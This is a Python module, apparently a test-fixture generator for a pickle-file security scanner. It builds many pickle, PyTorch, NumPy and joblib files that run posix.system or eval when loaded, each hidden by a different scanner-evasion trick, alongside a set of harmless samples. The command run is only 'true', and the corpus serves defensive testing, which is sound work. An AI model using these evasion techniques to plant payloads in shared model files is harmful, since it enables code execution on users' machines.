"""Pickles that run `os.system` when they are loaded, hidden in the ways that scanners have missed.

Each file of HOSTILE is made by its own function, so that the way it hides can be read.
"""

from __future__ import annotations

import base64
import bz2
import collections
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator

SYSTEM = b"cposix\nsystem\n(S'true'\ntR."
"""Protocol 0: calls `posix.system("true")`."""

HOSTILE: dict[str, Callable[[], bytes]] = {}
"""A file's name -> its content."""


def hostile(name: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def add(make: Callable[[], bytes]) -> Callable[[], bytes]:
        HOSTILE[name] = make
        return make

    return add


def text(value: str) -> bytes:
    """SHORT_BINUNICODE."""
    return b"\x8c" + bytes([len(value)]) + value.encode()


def system(before: bytes = b"", after: bytes = b".", protocol: int = 4) -> bytes:
    """By STACK_GLOBAL."""
    call = text("posix") + text("system") + b"\x93" + text("true") + b"\x85R"
    return b"\x80" + bytes([protocol]) + before + call + after


def archive(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as made:
        for name, content in members.items():
            made.writestr(zipfile.ZipInfo(name), content, compress_type=method)
    return file.getvalue()


def torch_archive(payload: bytes) -> bytes:
    return archive({"archive/data.pkl": payload, "archive/data/0": bytes(64), "archive/version": b"3\n"})


@hostile("global.pkl")
def _() -> bytes:
    return SYSTEM


@hostile("stack_global.pkl")
def _() -> bytes:
    return system()


@hostile("by_memo.pkl")
def _() -> bytes:
    """Module and name come from the memo, in the other order, with decoys after them."""
    words = text("system") + b"\x94" + b"0" + text("posix") + b"\x94" + b"0" + text("collections") + text("OrderedDict")
    return b"\x80\x04" + words + b"00" + b"h\x01h\x00\x93" + text("true") + b"\x85R."


@hostile("by_memo_far_away.pkl")
def _() -> bytes:
    words = text("posix") + b"r" + struct.pack("<L", 2**31) + b"0" + text("system") + b"p77777\n0"
    return b"\x80\x04" + words + b"j" + struct.pack("<L", 2**31) + b"g77777\n\x93" + text("true") + b"\x85R."


@hostile("by_dup_and_pop.pkl")
def _() -> bytes:
    return b"\x80\x04" + text("posix") + b"20" + text("x") + b"0" + text("system") + b"\x93" + text("true") + b"\x85R."


@hostile("by_python_two_strings.pkl")
def _() -> bytes:
    return b"U\x05posix" + b"S'sys\\x74em'\n" + b"\x93(Vtrue\ntR."


@hostile("inst.pkl")
def _() -> bytes:
    return b"(S'true'\niposix\nsystem\n."


@hostile("obj.pkl")
def _() -> bytes:
    return b"(cposix\nsystem\nS'true'\no."


@hostile("newobj_ex.pkl")
def _() -> bytes:
    return b"\x80\x04cposix\nsystem\n" + text("true") + b"\x85}\x92."


@hostile("dotted_name.pkl")
def _() -> bytes:
    """An attribute of an attribute, from a module that scanners trust."""
    return b"\x80\x04" + text("collections") + text("abc.sys.modules") + b"\x93."


@hostile("torch_dotted_name.bin")
def _() -> bytes:
    return b"\x80\x04" + text("torch.serialization") + text("os.system") + b"\x93" + text("true") + b"\x85R."


@hostile("nested.pkl")
def _() -> bytes:
    """A pickle in a pickle in a pickle, each loaded by the one around it."""
    inner = system()
    for _ in range(2):
        call = b"c_pickle\nloads\n" + b"C" + bytes([len(inner)]) + inner + b"\x85R."
        inner = b"\x80\x04" + call
    return inner


@hostile("nested_in_torch_storage.pkl")
def _() -> bytes:
    """By a function that belongs to every lists of harmless ones: it loads what it is given."""
    return b"\x80\x04ctorch.storage\n_load_from_bytes\nC" + bytes([len(SYSTEM)]) + SYSTEM + b"\x85R."


@hostile("nested_encoded.pkl")
def _() -> bytes:
    inner = torch_archive(system())
    as_text = inner.decode("latin-1").encode()
    encoded = b"c_codecs\nencode\nX" + struct.pack("<L", len(as_text)) + as_text + text("latin1") + b"\x86R"
    return b"\x80\x04ctorch.storage\n_load_from_bytes\n" + encoded + b"\x85R."


@hostile("behind_stop.pkl")
def _() -> bytes:
    return pickle.dumps([1, 2, 3]) + system()


@hostile("broken_after_payload.pkl")
def _() -> bytes:
    return system(after=b"\xff\xff\xff not a pickle")


@hostile("cut_off_after_payload.pkl")
def _() -> bytes:
    return system(after=b"X\xff\xff\xff\x7f")


@hostile("stack_empty_after_payload.pkl")
def _() -> bytes:
    return system(after=b"0000000.")


@hostile("protocol_lie.pkl")
def _() -> bytes:
    return system(protocol=0)


@hostile("protocol_in_the_middle.pkl")
def _() -> bytes:
    return b"K\x01" + system()


@hostile("frame_lie.pkl")
def _() -> bytes:
    return system(before=b"\x95" + struct.pack("<Q", 3))


@hostile("odd_numbers.pkl")
def _() -> bytes:
    """Numbers that `pickletools` refuses and a loader reads."""
    return b"I 1_0 \n0L1_0L\n0F1_0.5\n0" + SYSTEM


@hostile("large_values.pkl")
def _() -> bytes:
    large = b"\x8b" + struct.pack("<l", 300_000) + b"\x7f" * 300_000 + b"0"
    long = b"X" + struct.pack("<L", 200_000) + b"x" * 200_000 + b"0"
    line = b"V" + b"y" * 200_000 + b"\n0"
    return b"\x80\x04" + large + long + line + SYSTEM


@hostile("deep.pkl")
def _() -> bytes:
    return b"\x80\x04" + b"(" * 15_000 + SYSTEM[:-1] + b"l" * 15_000 + b"."


@hostile("deep_tuples.pkl")
def _() -> bytes:
    return b"\x80\x04)" + b"\x85" * 200_000 + SYSTEM


@hostile("build.pkl")
def _() -> bytes:
    """The state of an object that runs when it is set."""
    state = b"}" + text("x") + SYSTEM[:-1] + b"s"
    return b"\x80\x04ccollections\nOrderedDict\n)R" + state + b"b."


@hostile("torch.pt")
def _() -> bytes:
    return torch_archive(system(protocol=2))


@hostile("torch_deflated.pt")
def _() -> bytes:
    return archive({"archive/data.pkl": system(), "archive/version": b"3\n"}, zipfile.ZIP_DEFLATED)


@hostile("torch_upper_case.pt")
def _() -> bytes:
    """PyTorch finds a record without regard to case."""
    return archive({"archive/data.PKL": system(), "archive/data/0": bytes(64)})


@hostile("torch_two_data.pt")
def _() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        for payload in (system(), pickle.dumps({"weight": 1})):
            entry = zipfile.ZipInfo("archive/data.pkl")
            made.writestr(entry, payload)
    return file.getvalue()


@hostile("torch_other_local_name.pt")
def _() -> bytes:
    """Python's `zipfile` refuses the member; PyTorch does not look at the local name."""
    made = torch_archive(system())
    return made.replace(b"archive/data.pkl", b"archive/data.txt", 1)


@hostile("torch_other_directory_name.pt")
def _() -> bytes:
    """The directory calls the pickle a storage; a reader of local headers finds it."""
    made = torch_archive(system())
    last = made.rfind(b"archive/data.pkl")
    return made[:last] + b"archive/info.txt" + made[last + 16 :]


@hostile("torch_encrypted_flag.pt")
def _() -> bytes:
    """The directory says that the member is encrypted: Python's `zipfile` asks for a password, PyTorch does not."""
    made = bytearray(torch_archive(system()))
    made[made.find(b"PK\x01\x02") + 8] |= 1
    return bytes(made)


@hostile("torch_wrong_checksum.pt")
def _() -> bytes:
    made = bytearray(torch_archive(system()))
    made[made.find(b"PK\x01\x02") + 16] ^= 0xFF
    return bytes(made)


@hostile("torch_method_lie.pt")
def _() -> bytes:
    """The local header says that the member is deflated; the directory, which counts, that it is stored."""
    made = bytearray(torch_archive(system()))
    made[8] = 8
    return bytes(made)


@hostile("prefixed.pt")
def _() -> bytes:
    """Bytes before the archive, whose offsets do not count them."""
    return b"\x00" * 100 + torch_archive(system())


@hostile("pickle_and_archive.pt")
def _() -> bytes:
    """A pickle to one reader, a harmless archive to another."""
    return system() + torch_archive(pickle.dumps({"weight": 1}))


@hostile("archive_in_archive.pt")
def _() -> bytes:
    return archive({"model/inner.zip": archive({"archive/data.pkl": system()}, zipfile.ZIP_DEFLATED)})


@hostile("archive_without_an_end.pt")
def _() -> bytes:
    made = torch_archive(system())
    return made[: made.rfind(b"PK\x05\x06")]


@hostile("archive_with_two_ends.pt")
def _() -> bytes:
    """The comment of one archive is the end of another."""
    wicked = torch_archive(system())
    good = archive({"archive/data.txt": b"x"})
    return wicked + good


@hostile("seven_zip.pt")
def _() -> bytes:
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24) + lzma.compress(system())


@hostile("gzip.pkl")
def _() -> bytes:
    return gzip.compress(system())


@hostile("zlib.joblib")
def _() -> bytes:
    return zlib.compress(system())


@hostile("bz2.joblib")
def _() -> bytes:
    return bz2.compress(system())


@hostile("xz.joblib")
def _() -> bytes:
    return lzma.compress(system())


@hostile("twice.pkl.gz")
def _() -> bytes:
    return gzip.compress(gzip.compress(system()))


@hostile("old_torch.tar")
def _() -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as made:
        for name, content in {"storages": b"", "tensors": b"", "pickle": SYSTEM}.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            made.addfile(entry, io.BytesIO(content))
    return file.getvalue()


@hostile("legacy_torch.pth")
def _() -> bytes:
    """PyTorch before 1.6: magic number, protocol, system, content and the storages' keys, then raw bytes."""
    parts = (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})
    return b"".join(pickle.dumps(part, 2) for part in parts) + system(protocol=2) + pickle.dumps([], 2) + bytes(80)


@hostile("objects.npy")
def _() -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + SYSTEM


@hostile("objects.npz")
def _() -> bytes:
    return archive({"array.npy": HOSTILE["objects.npy"]()}, zipfile.ZIP_DEFLATED)


@hostile("no_suffix")
def _() -> bytes:
    return system()


@hostile("weights.safetensors")
def _() -> bytes:
    return system()


@hostile("notes.txt")
def _() -> bytes:
    return SYSTEM


def chain() -> Iterator[tuple[str, bytes]]:
    """Ways that name no `os` at all."""
    getter = b"c__builtin__\ngetattr\n(c__builtin__\n__import__\n(S'os'\ntRS'system'\ntR(S'true'\ntR."
    yield "builtins", getter
    yield "eval", b"c__builtin__\neval\n(S'1+1'\ntR."
    yield "runpy", b"crunpy\n_run_code\n(S'1'\n}tR."
    yield "partial", b"\x80\x04cfunctools\npartial\n(cos\nsystem\n" + text("true") + b"tR)R."
    yield "webbrowser", b"cwebbrowser\nopen\n(S'http://localhost'\ntR."
    yield "subprocess", b"csubprocess\nPopen\n((lS'true'\natR."
    yield "pip", b"cpip._internal\nmain\n((lS'--version'\natR."
    yield "asyncio", b"casyncio.unix_events\n_UnixSubprocessTransport._start\n(tR."
    yield "dumped", pickle.dumps(_Runs(), 5)
    yield "code", b"cmarshal\nloads\n(S'" + base64.b64encode(b"x") + b"'\ntR."


class _Runs:
    def __reduce__(self) -> tuple[Callable[[str], object], tuple[str]]:
        return eval, ("1+1",)


for _name, _content in chain():
    HOSTILE[f"way_of_{_name}.pkl"] = lambda content=_content: content  # type: ignore[misc]


def harmless() -> dict[str, bytes]:
    """What honest programs write."""
    ordered = collections.OrderedDict(step=3, loss=0.5)
    return {
        "state.pkl": pickle.dumps({"step": 500, "names": ["a", "b"], "values": (1.5, None, True), "raw": b"\x00" * 9}),
        "old.pkl": pickle.dumps(ordered, 0),
        "sets.pkl": pickle.dumps([{1, 2}, frozenset("ab"), 2**70, 1j], 5),
        "bytes.pkl": pickle.dumps([b"abc", bytearray(b"abc")], 2),
        "README.md": b"configuration\nof the model\n(for people)\n",
        "image.bin": bytes(range(256)) * 20,
        "empty.pkl": pickle.dumps(None),
    }
